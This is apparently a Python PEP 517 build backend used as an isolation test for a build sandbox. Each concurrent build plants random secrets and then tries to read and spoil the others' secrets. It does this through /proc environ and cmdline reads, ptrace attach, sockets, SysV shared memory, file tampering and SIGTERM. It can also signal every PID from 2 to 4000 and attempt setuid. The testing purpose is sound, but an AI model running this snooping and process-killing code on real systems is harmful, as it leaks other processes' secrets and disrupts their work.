"""A PEP 517 backend that attacks the other builds of its kind.

All of them meet at a wall-clock second that config_settings names; none of them needs another to get
there. At `ready` each has put out what the others are to find, from then on it reaches for theirs, and
until `over` it stays, so that all are there for all. Each secret is random. S/report.json has what was
laid out, what was got of others, and what was done to the own; who judges compares them.
"""

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import pathlib
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile

HOME = "/opt/app-root/src"
MARK = "RIVAL-SECRET"
IPC_CREAT, SETVAL, GETVAL = 0o1000, 16, 12
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def shared_memory(key, size, flags):
    return libc.shmat(checked(libc.shmget(key, size, flags)), None, 0)


class Rival:
    def __init__(self, number, count, wheels, control):
        self.number, self.count, self.wheels, self.control = number, count, wheels, control
        self.secrets, self.got, self.damage = {}, {}, []
        self.key = 0x52490000 + number

    # --- what the others are to find

    def secret(self, channel):
        self.secrets[channel] = f"{MARK}-{self.number}-{channel}-{secrets.token_hex(8)}"
        return self.secrets[channel]

    def put(self, channel, path):
        path = pathlib.Path(path)
        path.parent.mkdir(exist_ok=True)
        path.write_text(self.secret(channel))
        # As open as can be: only Rind is in the way.
        path.chmod(0o666)
        path.parent.chmod(0o777)
        self.files.append((channel, path))

    def listen(self, channel, address):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(address)
        if address[0] != "\0":
            os.chmod(address, 0o777)
        listener.listen(64)
        text = self.secret(channel).encode()

        def serve():
            while True:
                connection, _ = listener.accept()
                with connection, contextlib.suppress(OSError):
                    connection.sendall(text)

        threading.Thread(target=serve, daemon=True).start()

    def lay_out(self):
        self.files = []
        self.put("sources", "open/secret")
        self.put("tmp", f"/tmp/rival-{self.number}/secret")
        self.put("dev-shm", f"/dev/shm/rival-{self.number}")
        self.put("control", f"{self.control}/secret")
        self.put("wheels", f"{self.wheels}/rival-{self.number}.partial")
        self.listen("abstract", f"\0rival-{self.number}")
        self.listen("tmp-socket", f"/tmp/rival-{self.number}.socket")
        self.listen("sources-socket", "open/socket")
        text = self.secret("sysv").encode()
        self.segment = shared_memory(self.key, 4096, IPC_CREAT | 0o666)
        ctypes.memmove(self.segment, text, len(text))
        self.semaphore = checked(libc.semget(self.key, 1, IPC_CREAT | 0o666))
        checked(libc.semctl(self.semaphore, 0, SETVAL, 1))
        # A process to be found, looked into and signalled.
        self.child = subprocess.Popen(
            [f"argument-{self.secret('command-line')}", "600"],
            executable="/usr/bin/sleep",
            env={"SECRET": self.secret("environ")},
            cwd="open",
        )

    # --- reaching for theirs

    def take(self, channel, text):
        """Keeps whatever of `text` looks like a secret."""
        text = text.decode(errors="replace") if isinstance(text, bytes) else text
        words = {word for word in text.replace("\0", " ").split() if MARK in word}
        self.got.setdefault(channel, []).extend(words)

    def others(self):
        return (n for n in range(self.count) if n != self.number)

    def processes(self):
        """Those that carry the mark of another in their command line."""
        for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
            with contextlib.suppress(OSError):
                line = pathlib.Path(f"/proc/{pid}/cmdline").read_text()
                if MARK in line and self.secrets["command-line"] not in line:
                    yield pid, line

    def reach_processes(self):
        for pid, line in self.processes():
            self.take("command-line", line)
            for channel, file in (("environ", "environ"), ("working-directory", "cwd/secret")):
                with contextlib.suppress(OSError):
                    self.take(channel, pathlib.Path(f"/proc/{pid}/{file}").read_text())
            if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
                os.waitpid(pid, 0x40000000)
                libc.ptrace(PTRACE_DETACH, pid, None, None)
                self.take("ptrace", line)

    def reach_by_signals(self):
        for pid, _ in self.processes():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGTERM)

    def reach_blindly(self):
        """Every number that is not one's own: only where nobody is the worse for it."""
        # A thread's number stands for its process, too.
        mine = {1, self.child.pid, *map(int, os.listdir("/proc/self/task"))}
        for pid in (p for p in range(2, 4000) if p not in mine):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGTERM)
                self.got.setdefault("blind-signal", []).append(pid)

    def ask(self, channel, address):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            sock.connect(address)
            self.take(channel, sock.recv(1000))

    def reach_files(self, channel, pattern):
        """Reads, and then spoils."""
        own = {os.path.realpath(path) for _, path in self.files}
        for path in (p for p in glob.glob(pattern, include_hidden=True) if os.path.realpath(p) not in own):
            with contextlib.suppress(OSError):
                self.take(channel, pathlib.Path(path).read_text(errors="replace"))
            with contextlib.suppress(OSError), open(path, "r+") as file:
                file.seek(0, os.SEEK_END)
                file.write(f" spoilt by {self.number}")

    def reach_ipc(self):
        for n in self.others():
            with contextlib.suppress(OSError):
                self.take("sysv", ctypes.string_at(shared_memory(0x52490000 + n, 0, 0)))
            with contextlib.suppress(OSError):
                checked(libc.semctl(checked(libc.semget(0x52490000 + n, 0, 0)), 0, SETVAL, 7))

    def reach_leases(self):
        """Who holds the lease of a uid keeps it from the others, or shares it with one."""
        for path in glob.glob("/dev/rind/**", recursive=True) + glob.glob("/proc/1/fd/*"):
            with contextlib.suppress(OSError), open(path) as file:
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                self.got.setdefault("lease", []).append(path)

    def reach_identities(self, first, number):
        for uid in range(first, first + number):
            if uid != int(pathlib.Path("/proc/self/uid_map").read_text().split()[1]):
                with contextlib.suppress(OSError):
                    os.setuid(uid)
                    self.got.setdefault("setuid", []).append(uid)

    def reach(self, blindly):
        self.reach_processes()
        for n in self.others():
            self.ask("abstract", f"\0rival-{n}")
            self.ask("tmp-socket", f"/tmp/rival-{n}.socket")
            self.ask("sources-socket", f"{HOME}/work-dir/rival_{n}-1.0/rival_{n}-1.0/open/socket")
        self.reach_ipc()
        self.reach_files("sources", f"{HOME}/work-dir/rival_*/rival_*/open/secret")
        self.reach_files("tmp", "/tmp/rival-*/secret")
        self.reach_files("tmp", "/tmp/rind-private-*/*/rival-*/secret")
        self.reach_files("dev-shm", "/dev/shm/rival-*")
        self.reach_files("control", "/tmp/tmp*/secret")
        self.reach_files("control", "/tmp/tmp*/rind-private-*/*/secret")
        self.reach_files("wheels", f"{self.wheels}/*.partial")
        self.reach_files("wheels", f"{self.wheels}/rind-private-*/*/*.partial")
        self.reach_files("wheels", f"{self.wheels}/../rind-private-*/*/*.partial")
        self.reach_by_signals()
        if blindly:
            self.reach_blindly()
            self.reach_leases()
            self.reach_identities(61184, 64)

    # --- what was done to one's own

    def look_at_damage(self):
        for channel, path in self.files:
            if not path.exists() or path.read_text() != self.secrets[channel]:
                self.damage.append(channel)
        if self.child.poll() is not None:
            self.damage.append("signal")
        if checked(libc.semctl(self.semaphore, 0, GETVAL)) != 1:
            self.damage.append("semaphore")
        self.child.kill()


def get_requires_for_build_wheel(config_settings=None):
    return []


def until(when):
    time.sleep(max(0, when - time.time()))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    number, ready, over = (int(config_settings[key]) for key in ("number", "ready", "over"))
    rival = Rival(number, int(config_settings["count"]), wheel_directory, sys.argv[-1])
    rival.lay_out()
    begun = time.time()
    until(ready)
    rival.reach(blindly=config_settings["blindly"] == "yes")
    reached = time.time()
    until(over)
    rival.look_at_damage()
    report = {
        "number": number,
        "ids": pathlib.Path("/proc/self/uid_map").read_text().split(),
        "begun": begun,
        "reached": reached,
        "secrets": rival.secrets,
        "got": rival.got,
        "damage": rival.damage,
    }
    pathlib.Path("report.json").write_text(json.dumps(report))
    name = f"rival_{number}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as wheel:
        wheel.writestr(f"rival_{number}.py", "#" * 100_000)
        info = f"rival_{number}-1.0.dist-info"
        wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: rival_{number}\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
